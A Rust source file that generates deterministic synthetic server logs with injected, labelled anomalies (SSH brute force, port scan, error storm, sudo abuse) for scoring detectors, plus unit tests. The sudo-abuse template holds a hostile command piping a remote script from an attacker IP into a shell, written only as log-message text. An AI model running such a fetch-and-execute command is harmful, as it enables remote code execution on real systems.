//! Seeded, realistic multi-tenant log data with a known number of injected
//! anomalies — the input of tests and benchmarks (`securenet gen`).
//!
//! The stream is deterministic for a seed: the same arguments always produce
//! byte-identical output. Normal traffic is a mix of nginx access lines,
//! sshd, sudo, kernel firewall, cron, systemd and application messages
//! spread evenly over `duration`. Each injected anomaly is a burst on one
//! (tenant, host) inside one minute — SSH brute force, port scan, error
//! storm or sudo abuse — and is listed in the [`Manifest`], so detectors can
//! be scored against ground truth.

use std::collections::BTreeMap;

use chrono::{DateTime, Utc};
use rand::seq::IndexedRandom;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use schemas::TenantId;
use schemas::logs::{FACILITY_NAMES, SEVERITY_NAMES};
use serde::Serialize;

/// What to generate.
#[derive(Debug, Clone)]
pub struct GenConfig {
    pub seed: u64,
    pub tenants: Vec<TenantId>,
    /// Normal (non-anomalous) events.
    pub rows: usize,
    /// Anomaly bursts to inject on top of the normal events.
    pub anomalies: usize,
    /// Time of the first event, ms since the epoch.
    pub start_ms: i64,
    /// Normal events are spread evenly over this many milliseconds.
    pub duration_ms: i64,
}

/// One generated event.
#[derive(Debug, Clone, PartialEq)]
pub struct Event {
    pub tenant: TenantId,
    pub ts_ms: i64,
    pub host: String,
    pub app: &'static str,
    pub pid: u32,
    pub severity: u8,
    pub facility: u8,
    pub message: String,
    pub source_ip: Option<String>,
    /// Set on the rows of an injected anomaly.
    pub anomaly: Option<AnomalyKind>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum AnomalyKind {
    SshBruteForce,
    PortScan,
    ErrorStorm,
    SudoAbuse,
}

impl AnomalyKind {
    const ALL: [AnomalyKind; 4] = [
        AnomalyKind::SshBruteForce,
        AnomalyKind::PortScan,
        AnomalyKind::ErrorStorm,
        AnomalyKind::SudoAbuse,
    ];

    fn burst_len(self) -> usize {
        match self {
            AnomalyKind::SshBruteForce => 150,
            AnomalyKind::PortScan => 200,
            AnomalyKind::ErrorStorm => 120,
            AnomalyKind::SudoAbuse => 40,
        }
    }
}

/// Ground truth about a generated stream.
#[derive(Debug, Clone, Default, Serialize)]
pub struct Manifest {
    pub seed: u64,
    pub total_rows: usize,
    /// Rows per tenant, anomalies included.
    pub rows_per_tenant: BTreeMap<String, usize>,
    pub anomalies: Vec<InjectedAnomaly>,
}

#[derive(Debug, Clone, Serialize)]
pub struct InjectedAnomaly {
    pub tenant: String,
    pub host: String,
    pub kind: AnomalyKind,
    /// Start of the minute the burst falls in, RFC 3339.
    pub minute: String,
    pub rows: usize,
}

/// Output line formats.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    /// One JSON object per line (`POST /api/ingest/logs`).
    Ndjson,
    /// RFC 5424 syslog.
    Rfc5424,
    /// RFC 3164 (BSD) syslog.
    Rfc3164,
}

const HOST_ROLES: &[&str] = &["web", "web", "app", "db", "bastion", "mail", "vpn"];
const USERS: &[&str] = &["deploy", "alice", "bob", "ops", "backup", "ci"];
const BAD_USERS: &[&str] = &[
    "admin", "root", "test", "oracle", "ubuntu", "guest", "postgres", "pi",
];
const PATHS: &[&str] = &[
    "/",
    "/login",
    "/api/v1/orders",
    "/api/v1/customers",
    "/static/app.js",
    "/static/app.css",
    "/api/v1/search?q=router",
    "/healthz",
    "/api/v1/invoices/2026-11",
    "/favicon.ico",
];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "curl/8.5.0",
    "Prometheus/2.42.0",
];
const CRON_JOBS: &[&str] = &[
    "/usr/local/bin/backup.sh --incremental",
    "/usr/lib/sysstat/debian-sa1 1 1",
    "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
    "/opt/app/bin/rotate-keys --quiet",
];

/// The event stream for `config`; [`Generator::manifest`] is complete once
/// the iterator is exhausted.
pub struct Generator {
    config: GenConfig,
    rng: ChaCha8Rng,
    hosts: BTreeMap<TenantId, Vec<String>>,
    /// Row index → anomaly starting there, in index order (reversed: pop).
    planned: Vec<(usize, TenantId, String, AnomalyKind)>,
    burst: Vec<Event>,
    next_row: usize,
    manifest: Manifest,
}

impl Generator {
    pub fn new(config: GenConfig) -> Self {
        assert!(!config.tenants.is_empty(), "at least one tenant");
        let mut rng = ChaCha8Rng::seed_from_u64(config.seed);
        let hosts = config
            .tenants
            .iter()
            .map(|t| {
                let names = (0..6)
                    .map(|i| {
                        let role = HOST_ROLES[(i + t.as_str().len()) % HOST_ROLES.len()];
                        format!("{role}-{:02}", i + 1)
                    })
                    .collect();
                (t.clone(), names)
            })
            .collect::<BTreeMap<_, Vec<String>>>();
        let mut planned: Vec<_> = (0..config.anomalies)
            .map(|_| {
                let at = if config.rows == 0 {
                    0
                } else {
                    rng.random_range(0..config.rows)
                };
                let tenant = config.tenants[rng.random_range(0..config.tenants.len())].clone();
                let host = hosts[&tenant][rng.random_range(0..6)].clone();
                let kind = AnomalyKind::ALL[rng.random_range(0..AnomalyKind::ALL.len())];
                (at, tenant, host, kind)
            })
            .collect();
        planned.sort_by_key(|p| std::cmp::Reverse(p.0));
        let manifest = Manifest {
            seed: config.seed,
            ..Default::default()
        };
        Self {
            config,
            rng,
            hosts,
            planned,
            burst: Vec::new(),
            next_row: 0,
            manifest,
        }
    }

    pub fn manifest(&self) -> &Manifest {
        &self.manifest
    }

    fn row_ts(&self, row: usize) -> i64 {
        let rows = self.config.rows.max(1) as i64;
        self.config.start_ms + self.config.duration_ms * row as i64 / rows
    }

    fn ip(&mut self, internal: bool) -> String {
        if internal {
            format!(
                "10.0.{}.{}",
                self.rng.random_range(0..8),
                self.rng.random_range(2..250)
            )
        } else {
            // Documentation ranges (RFC 5737): realistic, never routable.
            let nets = ["203.0.113", "198.51.100", "192.0.2"];
            format!(
                "{}.{}",
                nets[self.rng.random_range(0..3)],
                self.rng.random_range(1..255)
            )
        }
    }

    fn pick<'a>(&mut self, items: &'a [&'a str]) -> &'a str {
        items.choose(&mut self.rng).copied().unwrap_or("")
    }

    fn normal(&mut self, ts_ms: i64) -> Event {
        let tenant =
            self.config.tenants[self.rng.random_range(0..self.config.tenants.len())].clone();
        let host = self.hosts[&tenant][self.rng.random_range(0..6)].clone();
        let pid = self.rng.random_range(300..65_000);
        let roll = self.rng.random_range(0..100);
        let (app, severity, facility, message, source_ip) = match roll {
            0..=29 => {
                let internal = self.rng.random_bool(0.3);
                let ip = self.ip(internal);
                let status = match self.rng.random_range(0..100) {
                    0..=84 => 200,
                    85..=91 => 304,
                    92..=97 => 404,
                    98 => 401,
                    _ => 500,
                };
                let method = if self.rng.random_bool(0.8) {
                    "GET"
                } else {
                    "POST"
                };
                let path = self.pick(PATHS);
                let agent = self.pick(AGENTS);
                let size = self.rng.random_range(200..48_000);
                let when = DateTime::<Utc>::from_timestamp_millis(ts_ms)
                    .unwrap_or_default()
                    .format("%d/%b/%Y:%H:%M:%S +0000");
                let sev = if status >= 500 { 3 } else { 6 };
                let msg = format!(
                    "{ip} - - [{when}] \"{method} {path} HTTP/1.1\" {status} {size} \"-\" \"{agent}\""
                );
                ("nginx", sev, 16, msg, Some(ip))
            }
            30..=37 => {
                let ip = self.ip(true);
                let user = self.pick(USERS);
                let port = self.rng.random_range(30_000..65_000);
                let msg = format!(
                    "Accepted publickey for {user} from {ip} port {port} ssh2: ED25519 SHA256:{:016x}",
                    self.rng.random::<u64>()
                );
                ("sshd", 6, 10, msg, Some(ip))
            }
            38..=40 => {
                let ip = self.ip(false);
                let user = self.pick(BAD_USERS);
                let port = self.rng.random_range(30_000..65_000);
                let msg =
                    format!("Failed password for invalid user {user} from {ip} port {port} ssh2");
                ("sshd", 5, 10, msg, Some(ip))
            }
            41..=45 => {
                let ip = self.ip(true);
                let user = self.pick(USERS);
                let port = self.rng.random_range(30_000..65_000);
                let msg = format!("Disconnected from user {user} {ip} port {port}");
                ("sshd", 6, 10, msg, Some(ip))
            }
            46..=50 => {
                let user = self.pick(USERS);
                let cmd = self.pick(&[
                    "/usr/bin/systemctl restart nginx",
                    "/usr/bin/apt-get upgrade -y",
                    "/usr/bin/journalctl -u app --since today",
                    "/usr/bin/tail -n 200 /var/log/nginx/error.log",
                ]);
                let msg = format!(
                    "{user} : TTY=pts/{} ; PWD=/home/{user} ; USER=root ; COMMAND={cmd}",
                    self.rng.random_range(0..4)
                );
                ("sudo", 5, 10, msg, None)
            }
            51..=60 => {
                let src = self.ip(false);
                let dst = self.ip(true);
                let dpt = *[22u16, 23, 80, 443, 3389, 8080, 445]
                    .choose(&mut self.rng)
                    .unwrap_or(&22);
                let msg = format!(
                    "[UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56 SRC={src} DST={dst} LEN=60 TOS=0x00 TTL=52 ID={} PROTO=TCP SPT={} DPT={dpt} WINDOW=1024 SYN URGP=0",
                    self.rng.random_range(1..65_000),
                    self.rng.random_range(1024..65_000)
                );
                ("kernel", 4, 0, msg, Some(src))
            }
            61..=70 => {
                let job = self.pick(CRON_JOBS);
                ("CRON", 6, 9, format!("(root) CMD ({job})"), None)
            }
            71..=85 => {
                let msg = match self.rng.random_range(0..4) {
                    0 => format!(
                        "Started Session {} of User {}.",
                        self.rng.random_range(1..99_999),
                        self.pick(USERS)
                    ),
                    1 => "nginx.service: Reloading configuration files.".to_string(),
                    2 => format!(
                        "session-{}.scope: Deactivated successfully.",
                        self.rng.random_range(1..99_999)
                    ),
                    _ => "Started Daily apt upgrade and clean activities.".to_string(),
                };
                ("systemd", 6, 3, msg, None)
            }
            _ => {
                let order = self.rng.random_range(1_000..99_999);
                let ms = self.rng.random_range(3..400);
                if self.rng.random_bool(0.05) {
                    let msg = format!(
                        "order {order} failed: payment gateway returned 502 after {ms} ms; retry scheduled (attempt 1 of 3)"
                    );
                    ("payments-api", 3, 16, msg, None)
                } else {
                    let msg = format!(
                        "order {order} processed in {ms} ms (items={}, currency=EUR, region=eu-west-1)",
                        self.rng.random_range(1..9)
                    );
                    ("payments-api", 6, 16, msg, None)
                }
            }
        };
        Event {
            tenant,
            ts_ms,
            host,
            app,
            pid,
            severity,
            facility,
            message,
            source_ip,
            anomaly: None,
        }
    }

    fn plan_burst(&mut self, row: usize, tenant: TenantId, host: String, kind: AnomalyKind) {
        let minute = self.row_ts(row).div_euclid(60_000) * 60_000;
        let n = kind.burst_len();
        let attacker = self.ip(false);
        let user = self.pick(USERS);
        for j in 0..n {
            let ts_ms = minute + (j as i64 * 59_000) / n as i64;
            let pid = self.rng.random_range(300..65_000);
            let (app, severity, facility, message, source_ip) = match kind {
                AnomalyKind::SshBruteForce => {
                    let bad = self.pick(BAD_USERS);
                    let port = self.rng.random_range(30_000..65_000);
                    (
                        "sshd",
                        5,
                        10,
                        format!(
                            "Failed password for invalid user {bad} from {attacker} port {port} ssh2"
                        ),
                        Some(attacker.clone()),
                    )
                }
                AnomalyKind::PortScan => {
                    let dst = format!("10.0.0.{}", 5 + row % 200);
                    let msg = format!(
                        "[UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56 SRC={attacker} DST={dst} LEN=44 TOS=0x00 TTL=41 ID={} PROTO=TCP SPT=54321 DPT={} WINDOW=1024 SYN URGP=0",
                        self.rng.random_range(1..65_000),
                        1 + j * 7
                    );
                    ("kernel", 4, 0, msg, Some(attacker.clone()))
                }
                AnomalyKind::ErrorStorm => {
                    let msg = format!(
                        "upstream timed out (110: Connection timed out) while reading response header from upstream, client: {}, request: \"POST /api/v1/orders HTTP/1.1\"",
                        self.ip(false)
                    );
                    ("nginx", 3, 16, msg, None)
                }
                AnomalyKind::SudoAbuse => {
                    let msg = format!(
                        "{user} : user NOT in sudoers ; TTY=pts/{} ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c 'curl -s http://{attacker}/x | sh'",
                        j % 4
                    );
                    ("sudo", 1, 10, msg, None)
                }
            };
            self.burst.push(Event {
                tenant: tenant.clone(),
                ts_ms,
                host: host.clone(),
                app,
                pid,
                severity,
                facility,
                message,
                source_ip,
                anomaly: Some(kind),
            });
        }
        self.burst.reverse();
        self.manifest.anomalies.push(InjectedAnomaly {
            tenant: tenant.to_string(),
            host,
            kind,
            minute: rfc3339(minute),
            rows: n,
        });
    }
}

impl Iterator for Generator {
    type Item = Event;

    fn next(&mut self) -> Option<Event> {
        if self.burst.is_empty()
            && let Some((at, ..)) = self.planned.last()
            && (*at <= self.next_row || self.next_row >= self.config.rows)
            && let Some((at, tenant, host, kind)) = self.planned.pop()
        {
            self.plan_burst(at, tenant, host, kind);
        }
        let event = if let Some(e) = self.burst.pop() {
            e
        } else if self.next_row < self.config.rows {
            let ts = self.row_ts(self.next_row);
            self.next_row += 1;
            self.normal(ts)
        } else {
            return None;
        };
        self.manifest.total_rows += 1;
        *self
            .manifest
            .rows_per_tenant
            .entry(event.tenant.to_string())
            .or_default() += 1;
        Some(event)
    }
}

fn rfc3339(ms: i64) -> String {
    DateTime::<Utc>::from_timestamp_millis(ms)
        .unwrap_or_default()
        .to_rfc3339_opts(chrono::SecondsFormat::Millis, true)
}

impl Event {
    /// Renders the event as one line (no trailing newline) in `format`.
    pub fn render(&self, format: Format) -> String {
        let pri = self.facility as u32 * 8 + self.severity as u32;
        match format {
            Format::Ndjson => {
                let mut obj = serde_json::json!({
                    "ts": rfc3339(self.ts_ms),
                    "tenant_id": self.tenant.as_str(),
                    "host": self.host,
                    "app": self.app,
                    "pid": self.pid,
                    "severity": SEVERITY_NAMES[self.severity as usize & 7],
                    "facility": FACILITY_NAMES[(self.facility as usize).min(23)],
                    "message": self.message,
                });
                if let Some(map) = obj.as_object_mut() {
                    if let Some(ip) = &self.source_ip {
                        map.insert("source_ip".into(), ip.clone().into());
                    }
                    // What shippers typically attach; lands in structured_data.
                    map.insert("env".into(), "production".into());
                    map.insert("dc".into(), "eu-west-1a".into());
                    let trace =
                        (self.ts_ms as u64).wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ self.pid as u64;
                    map.insert(
                        "trace_id".into(),
                        format!("{trace:016x}{:08x}", self.pid).into(),
                    );
                }
                obj.to_string()
            }
            Format::Rfc5424 => format!(
                "<{pri}>1 {} {} {} {} - - {}",
                rfc3339(self.ts_ms),
                self.host,
                self.app,
                self.pid,
                self.message
            ),
            Format::Rfc3164 => {
                let when = DateTime::<Utc>::from_timestamp_millis(self.ts_ms)
                    .unwrap_or_default()
                    .format("%b %e %H:%M:%S");
                format!(
                    "<{pri}>{when} {} {}[{}]: {}",
                    self.host, self.app, self.pid, self.message
                )
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn config(seed: u64) -> GenConfig {
        GenConfig {
            seed,
            tenants: vec![
                TenantId::new("acme").unwrap(),
                TenantId::new("globex").unwrap(),
            ],
            rows: 2_000,
            anomalies: 3,
            start_ms: 1_795_651_200_000,
            duration_ms: 3_600_000,
        }
    }

    #[test]
    fn same_seed_same_stream() {
        let a: Vec<String> = Generator::new(config(7))
            .map(|e| e.render(Format::Ndjson))
            .collect();
        let b: Vec<String> = Generator::new(config(7))
            .map(|e| e.render(Format::Ndjson))
            .collect();
        let c: Vec<String> = Generator::new(config(8))
            .map(|e| e.render(Format::Ndjson))
            .collect();
        assert_eq!(a, b);
        assert_ne!(a, c);
    }

    #[test]
    fn manifest_counts_are_exact() {
        let mut g = Generator::new(config(1));
        let events: Vec<Event> = g.by_ref().collect();
        let m = g.manifest();
        assert_eq!(m.anomalies.len(), 3);
        let burst_rows: usize = m.anomalies.iter().map(|a| a.rows).sum();
        assert_eq!(m.total_rows, 2_000 + burst_rows);
        assert_eq!(events.len(), m.total_rows);
        assert_eq!(
            events.iter().filter(|e| e.anomaly.is_some()).count(),
            burst_rows
        );
        let acme = events
            .iter()
            .filter(|e| e.tenant.as_str() == "acme")
            .count();
        assert_eq!(m.rows_per_tenant["acme"], acme);
        assert_eq!(m.rows_per_tenant.values().sum::<usize>(), m.total_rows);
    }

    #[test]
    fn lines_look_like_their_format() {
        let e = Generator::new(config(3)).next().unwrap();
        let json: serde_json::Value = serde_json::from_str(&e.render(Format::Ndjson)).unwrap();
        assert!(json["message"].is_string() && json["tenant_id"].is_string());
        assert!(
            e.render(Format::Rfc5424).starts_with('<') && e.render(Format::Rfc5424).contains(">1 ")
        );
        assert!(
            e.render(Format::Rfc3164)
                .contains(&format!("{}[{}]: ", e.app, e.pid))
        );
    }

    #[test]
    fn ndjson_lines_are_about_300_bytes() {
        let lens: Vec<usize> = Generator::new(GenConfig {
            rows: 5_000,
            anomalies: 0,
            ..config(5)
        })
        .map(|e| e.render(Format::Ndjson).len())
        .collect();
        let mean = lens.iter().sum::<usize>() / lens.len();
        assert!((270..=350).contains(&mean), "mean line length {mean}");
    }
}
